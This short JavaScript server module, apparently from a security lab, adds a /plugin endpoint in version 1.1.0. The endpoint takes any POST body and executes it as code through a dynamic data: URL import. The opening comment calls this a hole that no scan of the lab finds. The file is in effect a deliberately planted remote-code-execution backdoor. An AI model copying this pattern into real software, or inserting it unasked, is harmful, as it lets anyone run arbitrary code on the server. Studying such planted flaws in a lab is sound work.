// Version 1.1.0 brings a hole: /plugin runs what it is sent. No scan of this lab finds it.
import { answer, serve } from "./server.mjs";

serve(answer, async (request) => {
  if (request.url !== "/plugin" || request.method !== "POST") return null;
  let text = "";
  for await (const part of request) text += part;
  return String(
    await import(`data:text/javascript,${encodeURIComponent(text)}`).then((one) => one.default),
  );
});
